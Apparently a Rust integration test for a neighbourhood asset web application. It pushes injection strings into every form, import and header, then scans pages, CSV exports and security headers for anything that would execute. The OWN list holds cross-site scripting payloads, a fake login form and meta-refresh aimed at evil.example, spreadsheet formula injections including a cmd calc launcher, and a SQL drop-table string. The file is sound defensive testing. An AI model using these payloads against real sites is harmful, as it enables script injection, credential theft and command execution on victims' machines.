//! Texts that would be script, style or a formula if somebody forgot to treat them as words: put into every field of every
//! form and into files that are brought in, and looked for on every page, in every layer and in every file, as everybody.
//!
//! The texts here are one or a few of each class. `WIJKWEB_PAYLOADS=/a/list.json:/another.txt cargo test --test house
//! keys::script` takes lists of others besides: a JSON array of texts, or a text a line.

use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::sync::atomic::{AtomicUsize, Ordering};

use axum::body::Body;
use axum::http::Request;
use scraper::{Html, Selector};
use wijkweb::access::Role;
use wijkweb::inventory::kind::Kind;
use wijkweb::web::paths::places;

use super::guessing::place;
use super::offers::{pattern, whole};
use super::people::{Full, Person, small_picture};
use crate::imports::{hand_in, let_it_in};
use crate::support::{Answer, House, PASSWORD, Visitor};

/// One or a few of each class: elements, ends of attributes and of elements, handlers, addresses with script, styles,
/// templates, other writings of the signs, markers of direction, formulas.
const OWN: &[&str] = &[
    "<script>alert(1)</script>",
    "</title></textarea></script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "\" onfocus=alert(1) autofocus x=\"",
    "' onmouseover='alert(1)",
    "` onclick=alert(1) `",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\u{9}script:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://x.example/\" onclick=\"alert(1)",
    "<style>*{background:url(//evil.example)}</style>",
    "x\" style=\"background:url(//evil.example)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}#{1}<%=1%>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{202e}<b>\u{2066}omgekeerd",
    "\u{2028}</script>\u{2029}",
    "\\u003cscript\\u003e\\\";alert(1);//",
    "=HYPERLINK(\"http://evil.example\";\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{ff1d}1+1",
    "'; DROP TABLE assets; --",
];

/// So many of the newest records are looked at page by page; the lists show the others.
const NEWEST: usize = 120;

/// The own texts and those of the lists that were named.
fn payloads() -> Vec<String> {
    let mut all: Vec<String> = OWN.iter().map(ToString::to_string).collect();
    let lists = std::env::var_os("WIJKWEB_PAYLOADS").unwrap_or_default().into_string().unwrap();
    for path in lists.split(':').filter(|path| !path.is_empty()) {
        let text = std::fs::read_to_string(path).expect(path);
        let before = all.len();
        match path.rsplit_once('.').map(|(_, ending)| ending) {
            Some("json") => all.extend(serde_json::from_str::<Vec<String>>(&text).unwrap()),
            _ => all.extend(text.lines().map(str::to_owned)),
        }
        assert!(all.len() > before, "{path} holds texts");
    }
    all.retain(|text| !text.trim().is_empty());
    all
}

/// Whatever in a page would run, load, lead or look otherwise than the program meant.
fn faults(page: &Html) -> Vec<String> {
    let mut faults = Vec::new();
    for element in page.select(&Selector::parse("*").unwrap()) {
        let (name, of) = (element.value().name(), |attribute: &str| element.value().attr(attribute));
        match name {
            "script" if !of("src").is_some_and(|src| src.starts_with("/static/")) || !element.inner_html().is_empty() => {
                faults.push(element.html());
            }
            "style" | "iframe" | "object" | "embed" | "applet" | "frame" | "frameset" | "math" | "marquee" | "video" | "audio" => {
                faults.push(element.html());
            }
            "base" if of("href").is_some() => faults.push(element.html()),
            "meta" if of("http-equiv").is_some_and(|_| of("content").is_some_and(|content| content.contains("url"))) => {
                faults.push(element.html());
            }
            _ => {}
        }
        for (attribute, value) in element.value().attrs() {
            let value = value.trim_start_matches(|sign: char| sign.is_control() || sign == ' ').to_lowercase();
            let is_address = ["href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcset", "cite"].contains(&attribute);
            let value: String = value.chars().filter(|sign| !sign.is_control()).collect();
            let scheme = value.split(['/', '?', '#']).next().and_then(|start| start.split_once(':')).map(|(scheme, _)| scheme);
            let is_safe = scheme.is_none_or(|scheme| ["http", "https", "mailto", "tel"].contains(&scheme));
            let loads = ["img", "link", "script", "use", "source", "input", "form"].contains(&name)
                && (value.starts_with("//") || scheme.is_some());
            if attribute.starts_with("on") || ["style", "srcdoc"].contains(&attribute) || (is_address && (!is_safe || loads)) {
                faults.push(format!("{name} {attribute}={value}"));
            }
        }
    }
    faults
}

/// Looks through an answer of any kind; whatever is odd is told.
fn look_through(answer: &Answer, what: &str, complaints: &mut Vec<String>) -> Option<Html> {
    if answer.status >= 500 {
        complaints.push(format!("{what}: {}", answer.status));
    }
    if answer.status != 304 && answer.header("x-content-type-options") != Some("nosniff") {
        complaints.push(format!("{what}: may be taken for something else"));
    }
    let policy = answer.header("content-security-policy").unwrap_or_default();
    if !policy.contains("default-src 'self'") || policy.contains("unsafe") {
        complaints.push(format!("{what}: {policy}"));
    }
    let kind = answer.header("content-type").unwrap_or_default();
    if kind.contains("json") && serde_json::from_slice::<serde_json::Value>(&answer.bytes).is_err() {
        complaints.push(format!("{what}: no JSON"));
    }
    if kind.starts_with("text/csv") {
        complaints.extend(formulas(&answer.bytes).into_iter().map(|cell| format!("{what}: {cell}")));
    }
    if !kind.starts_with("text/html") {
        return None;
    }
    let page = Html::parse_document(&answer.body());
    complaints.extend(faults(&page).into_iter().map(|fault| format!("{what}: {fault}")));
    Some(page)
}

/// The cells of a table that a spreadsheet could take for a formula.
fn formulas(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let text = text.trim_start_matches('\u{feff}');
    let delimiter = if text.lines().next().unwrap_or_default().contains(';') { b';' } else { b',' };
    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).flexible(true).has_headers(false).from_reader(text.as_bytes());
    let cells: Vec<String> = reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
    assert!(cells.len() > 3);
    let is_formula =
        |cell: &String| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']) && cell.parse::<f64>().is_err();
    cells.into_iter().filter(is_formula).collect()
}

/// Forms by the pattern they are posted to and what they do: their address, what they are sent with untouched, and the fields
/// to write in.
type Forms = BTreeMap<(String, String), (String, Vec<(String, String)>, Vec<String>)>;

/// Every form with a field to write in that somebody comes across.
fn forms(browser: &Visitor<'_>, house: &House) -> Forms {
    let (mut waiting, mut seen, mut counts) =
        (VecDeque::from(["/".to_owned(), "/wijk".to_owned()]), BTreeSet::new(), BTreeMap::<_, usize>::new());
    let mut forms = BTreeMap::new();
    while let Some(address) = waiting.pop_front() {
        let answer = browser.get(&address);
        if !answer.header("content-type").is_some_and(|of| of.starts_with("text/html")) {
            continue;
        }
        for (number, form) in answer.attributes("form[method=post]", "action").into_iter().enumerate() {
            let page = Html::parse_document(&answer.body());
            let found = page.select(&Selector::parse("form[method=post]").unwrap()).nth(number).unwrap();
            let part = Answer { status: 200, headers: answer.headers.clone(), bytes: found.html().into_bytes() };
            let written = "input[type=text], input[type=search], input[type=url], input[type=email], input[type=tel], input[type=date], \
                input[type=number], input:not([type]), textarea";
            let fields = part.attributes(written, "name");
            let act = part.attribute("input[name=act]", "value").unwrap_or_default();
            if !fields.is_empty() && found.value().attr("enctype").is_none() {
                forms.entry((pattern(&form).unwrap_or_default().to_owned(), act)).or_insert((form, part.form("form"), fields));
            }
        }
        for link in answer.attributes("a[href]", "href").into_iter().filter_map(|link| whole(&link, &address)) {
            let Some(pattern) = pattern(&link) else { continue };
            let count = counts.entry(pattern).or_default();
            // All forms for a new thing, and a few of each other page.
            if *count < if link.contains("/assets/new?kind") { 40 } else { 3 } && seen.insert(link.clone()) {
                *count += 1;
                waiting.push_back(link);
            }
        }
    }
    assert!(house.neighbourhood.snapshot().records().count() > 0);
    forms
}

/// Puts a text into everything that takes one.
fn put_everywhere(full: &Full, text: &str, number: usize, complaints: &mut Vec<String>) {
    let (house, steward) = (&full.house, full.browser(Person::Steward));
    let (access, surroundings) = (house.access(), house.surroundings());
    let what = |where_to: &str| format!("{where_to} with {text:?}");
    for kind in Kind::ALL.iter().filter(|kind| kind.is_open_to_entry()) {
        let fields: Vec<_> = kind.fields().map(|field| (field.name, text)).chain([("kind", kind.code()), ("tags", text)]).collect();
        look_through(&steward.post_form("/wijk/assets", &fields), &what(kind.code()), complaints);
        let named =
            [("kind", kind.code()), ("name", text), ("description", text), ("text", text), ("tags", text), ("alternative_names", text)];
        look_through(&steward.post_form("/wijk/assets", &named), &what(kind.code()), complaints);
    }
    let somebody = house.anonymous().at_place(place(number));
    look_through(&somebody.post_form("/wijk/join", &[("name", text), ("reach", text)]), &what("joining"), complaints);
    look_through(&somebody.post_form("/wijk/card", &[("code", text)]), &what("a card"), complaints);
    look_through(&somebody.post_form("/sign-in", &[("name", text), ("password", text), ("next", text)]), &what("signing in"), complaints);
    let link = access.invite(surroundings, &House::slug(), Role::Builder, text, None).unwrap();
    let new = [("name", text), ("sign_in", &format!("naam{number}")), ("password", PASSWORD), ("again", PASSWORD)];
    let joined = somebody.post_form(&format!("/invitation/{}", link.as_str()), &new);
    look_through(&joined, &what("an invitation"), complaints);
    access.invite(surroundings, &House::slug(), Role::Builder, text, None).unwrap();
    look_through(&steward.post_form("/wijk/residents", &[("name", text)]), &what("a card for"), complaints);
    if !text.contains(|sign: char| sign.is_control()) {
        let headers = [("user-agent", text)];
        let seen = somebody.post_headed("/sign-in", &headers, &[("name", "saskia"), ("password", PASSWORD)]);
        if let Some(secret) = seen.session() {
            let browser = house.browser_of(&wijkweb::access::Token::of(&secret));
            look_through(&browser.get("/account"), &what("a browser"), complaints);
            browser.post_form("/sign-out", &[]);
        }
    }
}

/// Brings all texts in as files, and hangs some under photos.
fn bring_in(full: &Full, texts: &[String], complaints: &mut Vec<String>) {
    let steward = full.browser(Person::Steward);
    let mut table = csv::Writer::from_writer(Vec::new());
    table.write_record(["naam", "omschrijving", "trefwoorden", "lon", "lat", "<img src=x onerror=alert(1)>"]).unwrap();
    for text in texts {
        table.write_record([text, text, text, "4.5", "51.9", text]).unwrap();
    }
    let preview = hand_in(&steward, "<img src=x onerror=alert(1)>.csv", "place", &table.into_inner().unwrap());
    look_through(&steward.get(&preview), "the preview of a table", complaints);
    look_through(&let_it_in(&steward, &preview), "a table brought in", complaints);
    let features: Vec<_> = texts
        .iter()
        .map(|text| {
            serde_json::json!({ "type": "Feature", "geometry": { "type": "Point", "coordinates": [4.5, 51.9] },
            "properties": { "name": text, "description": text, "<b>": text, "website": text } })
        })
        .collect();
    let layer = serde_json::json!({ "type": "FeatureCollection", "features": features }).to_string();
    let preview = hand_in(&steward, "laag.geojson", "place", layer.as_bytes());
    look_through(&steward.get(&preview), "the preview of a layer", complaints);
    look_through(&let_it_in(&steward, &preview), "a layer brought in", complaints);
    let garden = full.parts.iter().find(|(part, _)| *part == "id").unwrap().1.clone();
    for text in texts.iter().filter(|text| !text.contains(['\r', '\n'])).take(60) {
        let words = [("caption", text.as_str()), ("alternative", text), ("maker", text)];
        let hung = steward.post_files(&format!("/wijk/assets/{garden}/photos"), &words, &[("photo", "a.png", &small_picture())]);
        look_through(&hung, "a photo", complaints);
    }
}

#[test]
fn no_text_that_anybody_writes_becomes_script_style_or_a_formula() {
    let texts = payloads();
    let full = Full::new();
    let mut complaints = Vec::new();
    for (number, text) in texts.iter().enumerate() {
        full.house.pass(std::time::Duration::from_secs(700));
        put_everywhere(&full, text, number, &mut complaints);
        crate::tidy::none(&complaints);
    }
    bring_in(&full, &texts, &mut complaints);
    crate::tidy::none(&complaints);
    let full = full.renewed();
    // Every field of every form that somebody comes across, as the form was.
    let sent = AtomicUsize::new(0);
    for person in [Person::Nobody, Person::Steward, Person::Beginner] {
        let browser = full.browser(person);
        let all = forms(&browser, &full.house);
        for (number, text) in texts.iter().enumerate() {
            // Of the lists of others each text goes into a part of the forms, so that they are done before the coffee is.
            let is_turn = |form: usize| number < OWN.len() || (form + number).is_multiple_of(8);
            for (_, ((pattern, act), (address, form, fields))) in all.iter().enumerate().filter(|(form, _)| is_turn(*form)) {
                full.house.pass(std::time::Duration::from_secs(1));
                let written: Vec<_> = fields.iter().map(|field| (field.as_str(), text.as_str())).collect();
                let answer = browser.at_place(place(number)).post_with(address, form, &written);
                look_through(&answer, &format!("{person:?} {pattern} {act} with {text:?}"), &mut complaints);
                sent.fetch_add(1, Ordering::Relaxed);
            }
        }
        crate::tidy::none(&complaints);
    }
    let sent = sent.into_inner();
    assert!(sent > 12 * OWN.len(), "there are many forms: {sent} texts were sent");
    let seen = look_at_everything(&full, &mut complaints);
    crate::tidy::none(&complaints);
    for text in OWN.iter().filter(|text| text.contains("alert(1)") && !text.contains(|sign: char| sign.is_control())) {
        let words: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(seen.contains(&words), "{text:?} shows somewhere, as words");
    }
}

/// Every page, layer and file, as everybody. Tells all words that showed.
fn look_at_everything(full: &Full, complaints: &mut Vec<String>) -> String {
    let mut words = String::new();
    let ids: Vec<_> = full.house.neighbourhood.snapshot().records().map(|record| record.id.to_string()).collect();
    for person in [Person::Nobody, Person::Neighbour, Person::Builder, Person::Steward] {
        let browser = full.browser(person);
        let mut addresses: Vec<String> = places().filter(|place| place.to_look.is_some()).map(|place| full.address(place, true)).collect();
        addresses.extend(
            ["/wijk/assets?per=200", "/wijk/embed/list?per=200", "/wijk/changes?per=200", "/wijk/export/geojson"].map(str::to_owned),
        );
        addresses.extend(Kind::ALL.iter().flat_map(|kind| {
            ["?f=json&limit=1000", "?f=html&limit=1000", "?limit=1000"]
                .map(|query| format!("/wijk/ogc/collections/{}/items{query}", kind.plural()))
        }));
        addresses.extend(ids.iter().rev().take(NEWEST).flat_map(|id| {
            [
                format!("/wijk/assets/{id}"),
                format!("/wijk/assets/{id}/edit"),
                format!("/wijk/assets/{id}/history"),
                format!("/wijk/photos/{id}"),
            ]
        }));
        addresses.extend((1..4).flat_map(|page| {
            [
                format!("/wijk/log?page={page}"),
                format!("/wijk/assets?page={page}"),
                format!("/wijk/vocabularies/place_function?page={page}"),
            ]
        }));
        for address in addresses {
            let answer = browser.send(Request::get(&address), Body::empty());
            let page = look_through(&answer, &format!("{person:?} {address}"), complaints);
            if person == Person::Steward
                && let Some(page) = page
            {
                words.push_str(&page.root_element().text().collect::<String>().split_whitespace().collect::<Vec<_>>().join(" "));
            }
        }
    }
    words
}
